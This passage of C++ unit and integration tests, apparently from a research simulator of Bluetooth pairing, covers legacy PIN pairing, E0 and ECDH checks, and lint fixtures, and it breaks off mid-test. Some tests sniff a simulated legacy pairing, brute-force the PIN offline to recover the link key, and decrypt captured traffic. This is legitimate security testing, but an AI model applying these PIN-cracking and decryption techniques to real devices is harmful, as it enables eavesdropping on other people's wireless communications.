TEST(Bin2Hex, RoundTrips) {
  Bytes data;
  for (int i = 0; i < 100; ++i) data.push_back(static_cast<std::uint8_t>(i * 7));
  EXPECT_EQ(hex_ascii_to_bin(bin_to_hex_ascii(data, 16)), data);
  EXPECT_EQ(hex_ascii_to_bin(bin_to_hex_ascii(data, 0)), data);
}

TEST(Bin2Hex, EmptyInput) { EXPECT_EQ(bin_to_hex_ascii(Bytes{}), ""); }

}  // namespace
}  // namespace blap::transport
