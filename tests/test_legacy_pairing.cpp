// Integration tests for legacy (pre-SSP) PIN pairing, offline PIN cracking
// and retroactive traffic decryption — the §II background machinery that
// motivates SSP, plus the paper's "decrypt past communications" claim.
#include <gtest/gtest.h>

#include "core/air_analysis.hpp"
#include "core/device.hpp"

namespace blap::core {
namespace {

DeviceSpec legacy_spec(const std::string& name, const std::string& addr,
                       const std::string& pin) {
  DeviceSpec spec;
  spec.name = name;
  spec.address = *BdAddr::parse(addr);
  spec.host.simple_pairing = false;  // pre-2.1 stack
  spec.host.pin_code = pin;
  return spec;
}

DeviceSpec ssp_spec(const std::string& name, const std::string& addr) {
  DeviceSpec spec;
  spec.name = name;
  spec.address = *BdAddr::parse(addr);
  return spec;
}

hci::Status pair(Simulation& sim, Device& initiator, Device& responder) {
  hci::Status result = hci::Status::kPageTimeout;
  bool done = false;
  initiator.host().pair(responder.address(), [&](hci::Status status) {
    result = status;
    done = true;
  });
  for (int i = 0; i < 400 && !done; ++i) sim.run_for(100 * kMillisecond);
  EXPECT_TRUE(done) << "pairing never completed";
  return result;
}

TEST(LegacyPairing, MatchingPinsBond) {
  Simulation sim(31);
  Device& a = sim.add_device(legacy_spec("old-phone", "00:00:00:00:00:01", "1234"));
  Device& b = sim.add_device(legacy_spec("old-headset", "00:00:00:00:00:02", "1234"));
  EXPECT_EQ(pair(sim, a, b), hci::Status::kSuccess);
  ASSERT_TRUE(a.host().security().is_bonded(b.address()));
  ASSERT_TRUE(b.host().security().is_bonded(a.address()));
  EXPECT_EQ(*a.host().security().link_key_for(b.address()),
            *b.host().security().link_key_for(a.address()));
  // Legacy pairing produces a Combination key, not an SSP key type.
  EXPECT_EQ(a.host().security().bond_for(b.address())->key_type,
            crypto::LinkKeyType::kCombination);
}

TEST(LegacyPairing, MismatchedPinsFailAuthentication) {
  Simulation sim(32);
  Device& a = sim.add_device(legacy_spec("old-phone", "00:00:00:00:00:01", "1234"));
  Device& b = sim.add_device(legacy_spec("old-headset", "00:00:00:00:00:02", "9999"));
  EXPECT_EQ(pair(sim, a, b), hci::Status::kAuthenticationFailure);
  // The wrong-key bond was purged on the failure.
  EXPECT_FALSE(a.host().security().is_bonded(b.address()));
}

TEST(LegacyPairing, SspInitiatorFallsBackForLegacyResponder) {
  Simulation sim(33);
  Device& modern = sim.add_device(ssp_spec("phone", "00:00:00:00:00:01"));
  modern.host().config().pin_code = "4321";
  Device& old = sim.add_device(legacy_spec("headset", "00:00:00:00:00:02", "4321"));
  EXPECT_EQ(pair(sim, modern, old), hci::Status::kSuccess);
  EXPECT_EQ(modern.host().security().bond_for(old.address())->key_type,
            crypto::LinkKeyType::kCombination);
}

TEST(LegacyPairing, LegacyInitiatorPairsWithSspResponder) {
  Simulation sim(34);
  Device& old = sim.add_device(legacy_spec("old-phone", "00:00:00:00:00:01", "0000"));
  Device& modern = sim.add_device(ssp_spec("headset", "00:00:00:00:00:02"));
  EXPECT_EQ(pair(sim, old, modern), hci::Status::kSuccess);
}

TEST(LegacyPairing, UserAgentCanRefusePin) {
  struct Refuser : host::UserAgent {
    std::optional<std::string> on_pin_request(const BdAddr&) override { return std::string(); }
  } refuser;
  Simulation sim(35);
  Device& a = sim.add_device(legacy_spec("old-phone", "00:00:00:00:00:01", "1234"));
  Device& b = sim.add_device(legacy_spec("old-headset", "00:00:00:00:00:02", "1234"));
  b.host().set_user_agent(&refuser);
  EXPECT_NE(pair(sim, a, b), hci::Status::kSuccess);
}

TEST(LegacyPairing, BondedReconnectUsesStoredKey) {
  Simulation sim(36);
  Device& a = sim.add_device(legacy_spec("old-phone", "00:00:00:00:00:01", "1234"));
  Device& b = sim.add_device(legacy_spec("old-headset", "00:00:00:00:00:02", "1234"));
  ASSERT_EQ(pair(sim, a, b), hci::Status::kSuccess);
  a.host().disconnect(b.address());
  sim.run_for(2 * kSecond);
  EXPECT_EQ(pair(sim, a, b), hci::Status::kSuccess);
}

class PinCrackTest : public ::testing::Test {
 protected:
  // Run one legacy pairing under a passive sniffer and return the capture.
  std::optional<LegacyPairingCapture> sniff_pairing(const std::string& pin,
                                                    std::uint64_t seed = 40) {
    sim = std::make_unique<Simulation>(seed);
    sniffer = std::make_unique<AirSniffer>(sim->medium());
    a = &sim->add_device(legacy_spec("old-phone", "00:00:00:00:00:01", pin));
    b = &sim->add_device(legacy_spec("old-headset", "00:00:00:00:00:02", pin));
    EXPECT_EQ(pair(*sim, *a, *b), hci::Status::kSuccess);
    return parse_legacy_pairing(sniffer->frames());
  }

  std::unique_ptr<Simulation> sim;
  std::unique_ptr<AirSniffer> sniffer;
  Device* a = nullptr;
  Device* b = nullptr;
};

TEST_F(PinCrackTest, CaptureParsesFromSniffedFrames) {
  auto capture = sniff_pairing("1234");
  ASSERT_TRUE(capture.has_value());
  EXPECT_EQ(capture->initiator, a->address());
  EXPECT_EQ(capture->responder, b->address());
  EXPECT_EQ(capture->claimant, b->address());  // a challenges b first
}

TEST_F(PinCrackTest, CracksFourDigitPin) {
  auto capture = sniff_pairing("1234");
  ASSERT_TRUE(capture.has_value());
  const auto result = crack_pin(*capture, 4);
  ASSERT_TRUE(result.found);
  EXPECT_EQ(result.pin, "1234");
  EXPECT_EQ(result.link_key, *a->host().security().link_key_for(b->address()));
}

TEST_F(PinCrackTest, RecoversLeadingZeroPin) {
  auto capture = sniff_pairing("0042");
  ASSERT_TRUE(capture.has_value());
  const auto result = crack_pin(*capture, 4);
  ASSERT_TRUE(result.found);
  EXPECT_EQ(result.pin, "0042");
}

TEST_F(PinCrackTest, TryPinRejectsWrongGuess) {
  auto capture = sniff_pairing("1234");
  ASSERT_TRUE(capture.has_value());
  EXPECT_FALSE(try_pin(*capture, "1235").has_value());
  EXPECT_TRUE(try_pin(*capture, "1234").has_value());
}

TEST_F(PinCrackTest, GivesUpBeyondMaxDigits) {
  auto capture = sniff_pairing("123456");
  ASSERT_TRUE(capture.has_value());
  const auto result = crack_pin(*capture, 3);  // search only up to 3 digits
  EXPECT_FALSE(result.found);
  EXPECT_EQ(result.attempts, 10u + 100u + 1000u);
}

TEST_F(PinCrackTest, ParseFailsOnSspOnlyTraffic) {
  // An SSP pairing has no IN_RAND/comb exchange: nothing to crack.
  Simulation ssp_sim(44);
  AirSniffer ssp_sniffer(ssp_sim.medium());
  Device& m = ssp_sim.add_device(ssp_spec("phone", "00:00:00:00:00:01"));
  Device& c = ssp_sim.add_device(ssp_spec("headset", "00:00:00:00:00:02"));
  EXPECT_EQ(pair(ssp_sim, m, c), hci::Status::kSuccess);
  EXPECT_FALSE(parse_legacy_pairing(ssp_sniffer.frames()).has_value());
}

TEST(RetroactiveDecryption, StolenKeyDecryptsSniffedTraffic) {
  // The paper's §IV-C claim end to end: record an encrypted session from
  // the air, then decrypt it with the (separately obtained) link key.
  Simulation sim(50);
  AirSniffer sniffer(sim.medium());
  Device& m = sim.add_device(ssp_spec("phone", "00:00:00:00:00:01"));
  Device& c = sim.add_device(ssp_spec("headset", "00:00:00:00:00:02"));
  ASSERT_EQ(pair(sim, m, c), hci::Status::kSuccess);

  // Exchange some application data over the (now encrypted) link.
  bool echoed = false;
  m.host().send_echo(c.address(), [&] { echoed = true; });
  sim.run_for(kSecond);
  ASSERT_TRUE(echoed);

  const crypto::LinkKey key = *m.host().security().link_key_for(c.address());
  const auto decrypted = decrypt_captured_traffic(sniffer.frames(), key);
  ASSERT_TRUE(decrypted.has_value());
  ASSERT_FALSE(decrypted->empty());
  // The echo payload 'ping' travels inside an L2CAP signaling packet; the
  // decrypted plaintext must contain it.
  bool found_ping = false;
  for (const auto& payload : *decrypted) {
    const std::string text(payload.plaintext.begin(), payload.plaintext.end());
    if (text.find("ping") != std::string::npos) found_ping = true;
  }
  EXPECT_TRUE(found_ping);
}

TEST(RetroactiveDecryption, WrongKeyYieldsGarbage) {
  Simulation sim(51);
  AirSniffer sniffer(sim.medium());
  Device& m = sim.add_device(ssp_spec("phone", "00:00:00:00:00:01"));
  Device& c = sim.add_device(ssp_spec("headset", "00:00:00:00:00:02"));
  hci::Status status = hci::Status::kPageTimeout;
  bool done = false;
  m.host().pair(c.address(), [&](hci::Status s) {
    status = s;
    done = true;
  });
  for (int i = 0; i < 200 && !done; ++i) sim.run_for(100 * kMillisecond);
  ASSERT_EQ(status, hci::Status::kSuccess);
  bool echoed = false;
  m.host().send_echo(c.address(), [&] { echoed = true; });
  sim.run_for(kSecond);

  crypto::LinkKey wrong{};
  wrong.fill(0xEE);
  const auto decrypted = decrypt_captured_traffic(sniffer.frames(), wrong);
  ASSERT_TRUE(decrypted.has_value());
  bool found_ping = false;
  for (const auto& payload : *decrypted) {
    const std::string text(payload.plaintext.begin(), payload.plaintext.end());
    if (text.find("ping") != std::string::npos) found_ping = true;
  }
  EXPECT_FALSE(found_ping);
}

TEST(RetroactiveDecryption, FailsWithoutEncryptionContext) {
  EXPECT_FALSE(decrypt_captured_traffic({}, crypto::LinkKey{}).has_value());
}

}  // namespace
}  // namespace blap::core
