// Tests for the E0 stream cipher used for link encryption.
#include <gtest/gtest.h>

#include "crypto/e0.hpp"

namespace blap::crypto {
namespace {

const BdAddr kMaster = *BdAddr::parse("aa:bb:cc:dd:ee:01");

EncryptionKey key_of(std::uint8_t fill) {
  EncryptionKey k{};
  k.fill(fill);
  return k;
}

TEST(E0, DeterministicPerSessionParameters) {
  E0Cipher a(key_of(0x10), kMaster, 12345);
  E0Cipher b(key_of(0x10), kMaster, 12345);
  for (int i = 0; i < 64; ++i) EXPECT_EQ(a.next_byte(), b.next_byte());
}

TEST(E0, EncryptionRoundTrips) {
  Bytes payload;
  for (int i = 0; i < 100; ++i) payload.push_back(static_cast<std::uint8_t>(i));
  const Bytes original = payload;

  E0Cipher sender(key_of(0x10), kMaster, 7);
  sender.crypt(payload);
  EXPECT_NE(payload, original);

  E0Cipher receiver(key_of(0x10), kMaster, 7);
  receiver.crypt(payload);
  EXPECT_EQ(payload, original);
}

TEST(E0, WrongKeyFailsToDecrypt) {
  Bytes payload(32, 0x5A);
  const Bytes original = payload;
  E0Cipher sender(key_of(0x10), kMaster, 7);
  sender.crypt(payload);
  E0Cipher wrong(key_of(0x11), kMaster, 7);
  wrong.crypt(payload);
  EXPECT_NE(payload, original);
}

TEST(E0, ClockChangesKeystream) {
  // Each baseband packet re-initializes E0 with the current clock; keystream
  // reuse across packets would be catastrophic.
  E0Cipher t0(key_of(0x10), kMaster, 100);
  E0Cipher t1(key_of(0x10), kMaster, 101);
  int same = 0;
  for (int i = 0; i < 64; ++i)
    if (t0.next_byte() == t1.next_byte()) ++same;
  EXPECT_LT(same, 8);
}

TEST(E0, AddressChangesKeystream) {
  const BdAddr other = *BdAddr::parse("aa:bb:cc:dd:ee:02");
  E0Cipher a(key_of(0x10), kMaster, 100);
  E0Cipher b(key_of(0x10), other, 100);
  int same = 0;
  for (int i = 0; i < 64; ++i)
    if (a.next_byte() == b.next_byte()) ++same;
  EXPECT_LT(same, 8);
}

TEST(E0, KeystreamIsRoughlyBalanced) {
  E0Cipher cipher(key_of(0x3C), kMaster, 42);
  int ones = 0;
  const int total = 8000;
  for (int i = 0; i < total; ++i) ones += cipher.next_bit();
  EXPECT_NEAR(static_cast<double>(ones) / total, 0.5, 0.05);
}

TEST(E0, NoShortCycles) {
  // The combined generator must not repeat within a few thousand bits.
  E0Cipher cipher(key_of(0x77), kMaster, 1);
  Bytes first(64);
  for (auto& b : first) b = cipher.next_byte();
  // Scan the next 4096 bytes for an immediate repetition of the prefix.
  Bytes window(64);
  bool repeated = false;
  for (int i = 0; i < 4096 && !repeated; ++i) {
    std::rotate(window.begin(), window.begin() + 1, window.end());
    window[63] = cipher.next_byte();
    repeated = (window == first);
  }
  EXPECT_FALSE(repeated);
}

// Sweep over keys: keystreams must be pairwise distinct.
class E0KeySweep : public ::testing::TestWithParam<int> {};

TEST_P(E0KeySweep, DistinctFromBaseKey) {
  E0Cipher base(key_of(0x00), kMaster, 5);
  E0Cipher other(key_of(static_cast<std::uint8_t>(GetParam())), kMaster, 5);
  bool all_same = true;
  for (int i = 0; i < 32; ++i)
    if (base.next_byte() != other.next_byte()) all_same = false;
  EXPECT_FALSE(all_same);
}

INSTANTIATE_TEST_SUITE_P(KeyFills, E0KeySweep, ::testing::Values(1, 3, 9, 27, 81, 243 % 256));

}  // namespace
}  // namespace blap::crypto
