// ECDH validation: NIST curve constants, known scalar multiples, and the
// Diffie–Hellman agreement property SSP relies on.
#include <gtest/gtest.h>

#include "crypto/ecdh.hpp"

namespace blap::crypto {
namespace {

TEST(EcCurve, GeneratorsAreOnCurve) {
  EXPECT_TRUE(EcCurve::p256().on_curve(EcCurve::p256().generator()));
  EXPECT_TRUE(EcCurve::p192().on_curve(EcCurve::p192().generator()));
}

TEST(EcCurve, P256DoubleGeneratorMatchesKnownValue) {
  const auto& curve = EcCurve::p256();
  const EcPoint twog = curve.double_point(curve.generator());
  EXPECT_EQ(twog.x.to_hex(),
            "7cf27b188d034f7e8a52380304b51ac3c08969e277f21b35a60b48fc47669978");
  EXPECT_EQ(twog.y.to_hex(),
            "07775510db8ed040293d9ac69f7430dbba7dade63ce982299e04b79d227873d1");
}

TEST(EcCurve, P192DoubleGeneratorMatchesKnownValue) {
  const auto& curve = EcCurve::p192();
  const EcPoint twog = curve.double_point(curve.generator());
  EXPECT_EQ(twog.x.to_hex().substr(16),
            "dafebf5828783f2ad35534631588a3f629a70fb16982a888");
  EXPECT_EQ(twog.y.to_hex().substr(16),
            "dd6bda0d993da0fa46b27bbc141b868f59331afa5c7e93ab");
}

TEST(EcCurve, AddMatchesDouble) {
  const auto& curve = EcCurve::p256();
  const EcPoint g = curve.generator();
  EXPECT_EQ(curve.add(g, g), curve.double_point(g));
}

TEST(EcCurve, ThreeGTwoWays) {
  const auto& curve = EcCurve::p256();
  const EcPoint g = curve.generator();
  const EcPoint via_add = curve.add(curve.double_point(g), g);
  const EcPoint via_mult = curve.multiply(U256(3), g);
  EXPECT_EQ(via_add, via_mult);
  EXPECT_TRUE(curve.on_curve(via_mult));
}

TEST(EcCurve, OrderTimesGeneratorIsInfinity) {
  const auto& curve = EcCurve::p256();
  EXPECT_TRUE(curve.multiply(curve.order(), curve.generator()).is_infinity());
}

TEST(EcCurve, P192OrderTimesGeneratorIsInfinity) {
  const auto& curve = EcCurve::p192();
  EXPECT_TRUE(curve.multiply(curve.order(), curve.generator()).is_infinity());
}

TEST(EcCurve, AddingInverseGivesInfinity) {
  const auto& curve = EcCurve::p256();
  const EcPoint g = curve.generator();
  U256 neg_y;
  U256::sub(curve.p(), g.y, neg_y);
  const EcPoint minus_g = EcPoint::affine(g.x, neg_y);
  EXPECT_TRUE(curve.on_curve(minus_g));
  EXPECT_TRUE(curve.add(g, minus_g).is_infinity());
}

TEST(EcCurve, InfinityIsAdditiveIdentity) {
  const auto& curve = EcCurve::p256();
  const EcPoint g = curve.generator();
  EXPECT_EQ(curve.add(g, EcPoint::at_infinity()), g);
  EXPECT_EQ(curve.add(EcPoint::at_infinity(), g), g);
}

TEST(EcCurve, RejectsOffCurvePoint) {
  const auto& curve = EcCurve::p256();
  EcPoint bogus = curve.generator();
  bogus.y = add_mod(bogus.y, U256(1), curve.p());
  EXPECT_FALSE(curve.on_curve(bogus));
}

TEST(Ecdh, SharedSecretAgrees) {
  Rng rng(2022);
  const auto& curve = EcCurve::p256();
  const EcKeyPair alice = generate_keypair(curve, rng);
  const EcKeyPair bob = generate_keypair(curve, rng);
  const auto s_alice = ecdh_shared_secret(curve, alice.private_key, bob.public_key);
  const auto s_bob = ecdh_shared_secret(curve, bob.private_key, alice.public_key);
  ASSERT_TRUE(s_alice.has_value());
  ASSERT_TRUE(s_bob.has_value());
  EXPECT_EQ(*s_alice, *s_bob);
}

TEST(Ecdh, P192SharedSecretAgrees) {
  Rng rng(7);
  const auto& curve = EcCurve::p192();
  const EcKeyPair alice = generate_keypair(curve, rng);
  const EcKeyPair bob = generate_keypair(curve, rng);
  const auto s_alice = ecdh_shared_secret(curve, alice.private_key, bob.public_key);
  const auto s_bob = ecdh_shared_secret(curve, bob.private_key, alice.public_key);
  ASSERT_TRUE(s_alice && s_bob);
  EXPECT_EQ(*s_alice, *s_bob);
}

TEST(Ecdh, RejectsInvalidPeerPoint) {
  // The fixed-coordinate invalid-curve attack (paper ref [10]) is closed by
  // validating the peer point before multiplying.
  Rng rng(5);
  const auto& curve = EcCurve::p256();
  const EcKeyPair alice = generate_keypair(curve, rng);
  EcPoint off_curve = EcPoint::affine(U256(1), U256(1));
  EXPECT_FALSE(ecdh_shared_secret(curve, alice.private_key, off_curve).has_value());
  EXPECT_FALSE(ecdh_shared_secret(curve, alice.private_key, EcPoint::at_infinity()).has_value());
}

TEST(Ecdh, DistinctKeyPairsDistinctSecrets) {
  Rng rng(9);
  const auto& curve = EcCurve::p256();
  const EcKeyPair a = generate_keypair(curve, rng);
  const EcKeyPair b = generate_keypair(curve, rng);
  const EcKeyPair c = generate_keypair(curve, rng);
  const auto s_ab = ecdh_shared_secret(curve, a.private_key, b.public_key);
  const auto s_ac = ecdh_shared_secret(curve, a.private_key, c.public_key);
  ASSERT_TRUE(s_ab && s_ac);
  EXPECT_NE(*s_ab, *s_ac);
}

TEST(Ecdh, KeypairPrivateScalarInRange) {
  Rng rng(123);
  const auto& curve = EcCurve::p256();
  for (int i = 0; i < 8; ++i) {
    const EcKeyPair kp = generate_keypair(curve, rng);
    EXPECT_FALSE(kp.private_key.is_zero());
    EXPECT_LT(kp.private_key, curve.order());
    EXPECT_TRUE(curve.on_curve(kp.public_key));
  }
}

// Scalar-multiplication consistency sweep: (k+1)G == kG + G for many k.
class ScalarMulProperty : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(ScalarMulProperty, IncrementalConsistency) {
  const auto& curve = EcCurve::p256();
  const EcPoint g = curve.generator();
  const EcPoint kg = curve.multiply(U256(GetParam()), g);
  const EcPoint k1g = curve.multiply(U256(GetParam() + 1), g);
  EXPECT_EQ(curve.add(kg, g), k1g);
}

INSTANTIATE_TEST_SUITE_P(SmallScalars, ScalarMulProperty,
                         ::testing::Values(1, 2, 3, 5, 16, 100, 255, 65537));

}  // namespace
}  // namespace blap::crypto
