// Fixture for rule D2 (no unordered-container iteration). Never compiled.
#include <map>
#include <string>
#include <unordered_map>

struct Registry {
  std::unordered_map<std::string, int> counters_;
  std::map<std::string, int> sorted_;

  std::string to_json() const {
    std::string out = "{";
    for (const auto& [name, value] : counters_) {  // EXPECT-D2
      out += name;
    }
    return out + "}";
  }

  int total() const {
    int sum = 0;
    // blap-lint: ordered-ok — commutative fold, order cannot reach output
    for (const auto& [name, value] : counters_) sum += value;
    return sum;
  }

  std::string sorted_json() const {
    std::string out;
    for (const auto& [name, value] : sorted_) out += name;  // ordered: fine
    return out;
  }

  auto first() const {
    return counters_.begin();  // EXPECT-D2
  }
};
