// Fixture for rule D7 (every BLAP_FAILPOINT must sit inside an if
// condition — a failpoint is a branch, and a bare-expression passage counts
// hits while taking no fault path). Never compiled.

// The macro's own definition is not a use; the rule must stay silent here.
#define BLAP_FAILPOINT(site) (failpoint_hit(site))

bool failpoint_hit(const char* site);
void step();
extern bool armed;

void deliver() {
  if (BLAP_FAILPOINT("radio.frame.drop")) return;  // plain condition: fine
  if (!BLAP_FAILPOINT("radio.page.train_lost")) step();  // negated: fine
  if (armed && BLAP_FAILPOINT("controller.arq.phantom_nak")) {  // compound: fine
    step();
  }
  if (BLAP_FAILPOINT(  // condition spanning lines: fine
          "controller.teardown.supervision_race"))
    step();

  bool lost = BLAP_FAILPOINT("radio.frame.report_lost");  // EXPECT-D7
  (void)lost;
  (void)BLAP_FAILPOINT("controller.lmp.tx_lost");  // EXPECT-D7
  while (BLAP_FAILPOINT("host.pair.retry_abandoned"))  // EXPECT-D7
    step();
  step(BLAP_FAILPOINT("host.connect.reject") ? 1 : 0);  // EXPECT-D7

  // blap-lint: failpoint-ok — recorder harness counts passages deliberately
  (void)BLAP_FAILPOINT("test.unit.site");
}
