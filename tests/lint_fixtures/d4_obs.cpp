// Fixture for rule D4 (observer dereferences must be null-guarded).
// Never compiled.
struct Observer {
  void count(const char* name);
  unsigned long long begin_span(const char* name);
};

struct Component {
  Observer* obs_ = nullptr;

  void unguarded() {
    obs_->count("x");  // EXPECT-D4
  }

  void guarded_block() {
    if (obs_ != nullptr) {
      obs_->count("x");
      obs_->begin_span("y");
    }
  }

  void guarded_single_statement() {
    if (obs_ != nullptr) obs_->count("x");
  }

  void guarded_early_return() {
    if (obs_ == nullptr) return;
    obs_->count("x");
    obs_->begin_span("y");
  }

  void guarded_expression() {
    if (true && obs_ != nullptr && true) obs_->count("x");
  }

  void justified() {
    // blap-lint: obs-ok — constructor-injected, never null here
    obs_->count("x");
  }

  void unguarded_after_guarded_block() {
    if (obs_ != nullptr) {
      obs_->count("x");
    }
    obs_->count("y");  // EXPECT-D4
  }
};
