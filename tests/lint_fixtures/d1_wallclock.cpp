// Fixture for rule D1 (wall-clock/PRNG ban). Never compiled — consumed by
// test_lint.cpp, which asserts a finding on every marked line and nowhere
// else.
#include <chrono>
#include <cstdlib>
#include <ctime>

unsigned long long bad_wallclock() {
  auto t0 = std::chrono::steady_clock::now();            // EXPECT-D1
  auto t1 = std::chrono::system_clock::now();            // EXPECT-D1
  int jitter = std::rand();                              // EXPECT-D1
  long stamp = time(nullptr);                            // EXPECT-D1
  (void)t0;
  (void)t1;
  return static_cast<unsigned long long>(jitter + stamp);
}

unsigned long long justified_wallclock() {
  // blap-lint: wallclock-ok — host-side throughput stamp, never serialized
  auto t = std::chrono::steady_clock::now();
  return static_cast<unsigned long long>(t.time_since_epoch().count());
}

// Prose and literals must never trip the rule: "steady_clock, time(), rand()".
const char* kDescription = "calls time() and std::rand() at steady_clock pace";

struct Lfsr {
  void clock();  // project-defined name shadowing libc clock() is fine
  void warm_up() {
    for (int i = 0; i < 200; ++i) clock();
  }
};
