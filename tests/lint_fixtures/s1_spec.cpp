// Fixture for rule S1 (spec invariants: no key bytes in logs, centralized
// association-model decisions). Never compiled.
#define BLAP_DEBUG(component, ...)
#define BLAP_INFO(component, ...)
enum IoCapability { kDisplayYesNo, kNoInputNoOutput };

struct Bond {
  unsigned char link_key[16];
  const char* name;
};

void bad_key_log(const Bond& bond, const char* hex(const unsigned char*)) {
  BLAP_DEBUG("host", "stored key %s", hex(bond.link_key));  // EXPECT-S1
}

void fine_key_event_log(const Bond& bond) {
  // Logging the *event* (and prose mentioning Link_Key_Request) is fine.
  BLAP_INFO("host", "link key stored for %s", bond.name);
}

bool bad_iocap_check(IoCapability peer) {
  return peer == kNoInputNoOutput;  // EXPECT-S1
}

bool justified_iocap_check(IoCapability peer) {
  // blap-lint: spec-ok — this is the detector itself
  return peer == kNoInputNoOutput;
}

IoCapability fine_default(const IoCapability* maybe) {
  // A ternary *default* selects a value, it does not compare against one.
  return maybe != nullptr ? *maybe : kDisplayYesNo;
}
