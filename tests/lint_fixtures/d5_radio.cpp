// Fixture for rule D5 (population-scale discipline in src/radio/: no
// unordered containers, no std:: linear scans). Never compiled.
#include <algorithm>
#include <map>
#include <unordered_map>  // EXPECT-D5
#include <unordered_set>  // EXPECT-D5
#include <vector>

struct Endpoint;

struct Medium {
  std::unordered_map<int, Endpoint*> by_id_;  // EXPECT-D5
  std::unordered_set<int> scanners_;          // EXPECT-D5
  std::map<int, Endpoint*> ordered_;          // ordered: fine
  std::vector<Endpoint*> endpoints_;

  bool attached(Endpoint* ep) const {
    return std::find(endpoints_.begin(), endpoints_.end(), ep) !=  // EXPECT-D5
           endpoints_.end();
  }

  bool has_match(Endpoint* ep) const {
    return std::find_if(endpoints_.begin(), endpoints_.end(),  // EXPECT-D5
                        [ep](Endpoint* e) { return e == ep; }) != endpoints_.end();
  }

  bool attached_suppressed(Endpoint* ep) const {
    // blap-lint: radio-scan-ok — equivalence-test replica of the pre-index scan
    return std::find(endpoints_.begin(), endpoints_.end(), ep) != endpoints_.end();
  }

  Endpoint* lookup(int id) {
    auto it = ordered_.find(id);  // member find on an ordered map: fine
    return it == ordered_.end() ? nullptr : it->second;
  }

  // Regression: a tag above a *multi-line* statement must cover a finding on
  // a later line of that statement (the std::find_if sits two lines below
  // the statement start, and the statement ends in a lambda body).
  bool suppressed_multiline(Endpoint* ep) const {
    // blap-lint: radio-scan-ok — equivalence-test replica, statement spans lines
    auto it =
        std::find_if(endpoints_.begin(), endpoints_.end(),
                     [ep](Endpoint* e) { return e == ep; });
    return it != endpoints_.end();
  }

  // Regression: a trailing tag on a later line of the same statement also
  // covers it — the statement range, not the finding line, is what counts.
  bool suppressed_trailing(Endpoint* ep) const {
    auto it = std::find_if(
        endpoints_.begin(), endpoints_.end(),
        [ep](Endpoint* e) { return e == ep; });  // blap-lint: radio-scan-ok — replica
    return it != endpoints_.end();
  }
};
