// Fixture for rule D3 (no raw device pointers in scheduler callbacks).
// Never compiled.
struct RadioEndpoint;
struct Scheduler {
  template <typename F>
  void schedule_in(unsigned long long delay, F fn);
};

void bad_capture(Scheduler& scheduler, RadioEndpoint* responder) {
  scheduler.schedule_in(625, [responder] {  // EXPECT-D3
    (void)responder;
  });
}

void justified_capture(Scheduler& scheduler, RadioEndpoint* responder) {
  // blap-lint: handle-ok — liveness re-verified at fire time
  scheduler.schedule_in(625, [responder] {
    (void)responder;
  });
}

void fine_captures(Scheduler& scheduler, RadioEndpoint* responder) {
  unsigned long long id = 7;
  scheduler.schedule_in(625, [id] { (void)id; });  // value capture of an id: fine
  (void)responder;
}
