// Fixture for rule D3 (no raw device pointers in scheduler callbacks).
// Never compiled.
struct RadioEndpoint;
struct Scheduler {
  template <typename F>
  void schedule_in(unsigned long long delay, F fn);
};

void bad_capture(Scheduler& scheduler, RadioEndpoint* responder) {
  scheduler.schedule_in(625, [responder] {  // EXPECT-D3
    (void)responder;
  });
}

void justified_capture(Scheduler& scheduler, RadioEndpoint* responder) {
  // blap-lint: handle-ok — liveness re-verified at fire time
  scheduler.schedule_in(625, [responder] {
    (void)responder;
  });
}

void fine_captures(Scheduler& scheduler, RadioEndpoint* responder) {
  unsigned long long id = 7;
  scheduler.schedule_in(625, [id] { (void)id; });  // value capture of an id: fine
  (void)responder;
}

// Regression: the suppression range is the whole schedule statement, through
// the lambda body to the call's closing paren — a trailing tag on the last
// line of a multi-line statement covers the capture on its first line.
void justified_capture_trailing_tag(Scheduler& scheduler, RadioEndpoint* responder) {
  scheduler.schedule_in(625, [responder] {
    (void)responder;
  });  // blap-lint: handle-ok — liveness re-verified at fire time
}
