// End-to-end integration: two full devices pairing, bonding, reconnecting,
// and encrypting over the simulated radio — the paper's Fig. 2 procedures.
#include <gtest/gtest.h>

#include "core/device.hpp"
#include "core/snoop_extractor.hpp"

namespace blap::core {
namespace {

DeviceSpec phone_spec(const std::string& name, const std::string& addr) {
  DeviceSpec spec;
  spec.name = name;
  spec.address = *BdAddr::parse(addr);
  spec.class_of_device = ClassOfDevice(ClassOfDevice::kMobilePhone);
  return spec;
}

class PairingIntegration : public ::testing::Test {
 protected:
  void SetUp() override {
    sim = std::make_unique<Simulation>(42);
    m = &sim->add_device(phone_spec("phone-M", "48:90:00:00:00:01"));
    c = &sim->add_device(phone_spec("headset-C", "00:1b:00:00:00:02"));
  }

  // Run the simulation in small steps until the operation completes, so
  // post-completion idle policies don't race the assertions.
  hci::Status pair(Device& initiator, Device& responder) {
    hci::Status result = hci::Status::kPageTimeout;
    bool done = false;
    initiator.host().pair(responder.address(), [&](hci::Status status) {
      result = status;
      done = true;
    });
    for (int i = 0; i < 400 && !done; ++i) sim->run_for(100 * kMillisecond);
    EXPECT_TRUE(done) << "pairing never completed";
    return result;
  }

  std::unique_ptr<Simulation> sim;
  Device* m = nullptr;
  Device* c = nullptr;
};

TEST_F(PairingIntegration, HostsLearnTheirAddresses) {
  EXPECT_EQ(m->host().address(), m->address());
  EXPECT_EQ(c->host().address(), c->address());
}

TEST_F(PairingIntegration, DiscoveryFindsPeer) {
  std::vector<host::HostStack::Discovered> found;
  m->host().discover(2, [&](std::vector<host::HostStack::Discovered> results) {
    found = std::move(results);
  });
  sim->run_for(5 * kSecond);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].address, c->address());
}

TEST_F(PairingIntegration, FreshPairingSucceedsAndBondsBothSides) {
  EXPECT_EQ(pair(*m, *c), hci::Status::kSuccess);
  ASSERT_TRUE(m->host().security().is_bonded(c->address()));
  ASSERT_TRUE(c->host().security().is_bonded(m->address()));
  // Both sides derived the same link key — the SSP f2 contract.
  EXPECT_EQ(*m->host().security().link_key_for(c->address()),
            *c->host().security().link_key_for(m->address()));
}

TEST_F(PairingIntegration, PairedLinkIsAuthenticatedAndEncrypted) {
  ASSERT_EQ(pair(*m, *c), hci::Status::kSuccess);
  const auto acls = m->host().acls();
  ASSERT_EQ(acls.size(), 1u);
  EXPECT_TRUE(acls[0].authenticated);
  EXPECT_TRUE(acls[0].encrypted);
}

TEST_F(PairingIntegration, NumericComparisonPopupsAgreeOnBothSides) {
  ASSERT_EQ(pair(*m, *c), hci::Status::kSuccess);
  // Both DisplayYesNo at v5.0: numeric comparison with the value displayed.
  ASSERT_FALSE(m->host().popup_history().empty());
